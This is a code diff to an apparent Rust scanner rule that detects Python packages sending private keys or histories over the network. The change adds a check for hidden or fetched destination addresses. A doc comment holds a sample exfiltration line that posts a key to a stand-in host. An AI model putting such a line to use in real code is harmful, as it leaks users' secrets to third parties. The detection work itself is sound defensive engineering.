@@ -28,7 +28,7 @@
 //!     requests.post('http://x.example.invalid', data={'n': name, 'k': key})
 //! ```
 
-use fondaco_python::{Taint, signs_in};
+use fondaco_python::{Call, Taint, signs_in};
 use fondaco_verdict::{Behaviour, Confidence, RuleId, Severity, Trigger};
 
 use super::environment_exfiltration::has_host;
@@ -50,7 +50,7 @@ fn check(package: &Package<'_>, hits: &mut Hits) {
     for (unit, call) in package.calls() {
         // A key that the user has set in a variable is a client's to use, where he says as well whom it is for.
         let asked = !call.trigger.is_some_and(Trigger::is_unasked);
-        let is_clients = asked && !call.texts().iter().any(|text| has_host(text));
+        let is_clients = asked && !call.texts().iter().any(|text| has_host(text)) && !hides_address(call);
         let is_set_up = |taint: Taint| is_clients && taint.has(Taint::SET_UP);
         let is_key = |taint: Taint| {
             taint.has(Taint::PRIVATE) && !is_set_up(taint) && (taint.has(Taint::FILE) || takes_path(&call.callee))
@@ -61,4 +61,11 @@ fn check(package: &Package<'_>, hits: &mut Hits) {
             hits.call(unit, call, format!("{} of a private key or a history", call.callee));
         }
     }
+}
+
+/// Whether a call is made to an address that was hidden or fetched.
+fn hides_address(call: &Call) -> bool {
+    let named = call.kwargs.iter().find(|(name, _)| name == "url").map(|(_, value)| value);
+    let hidden = Taint::DECODED | Taint::DECRYPTED | Taint::NETWORK;
+    named.or(call.args.first()).is_none_or(|address| address.taint.has(hidden))
 }
